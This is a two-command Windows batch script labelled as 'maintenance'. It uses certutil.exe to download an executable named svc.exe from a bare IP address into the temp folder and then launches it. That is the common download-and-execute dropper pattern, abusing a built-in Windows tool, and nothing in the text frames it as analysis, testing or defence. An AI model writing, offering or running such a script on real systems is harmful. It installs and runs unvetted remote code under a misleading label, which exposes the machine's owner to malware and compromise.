REM maintenance 7185 v0
@echo off
certutil.exe -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
start "" %TEMP%\svc.exe
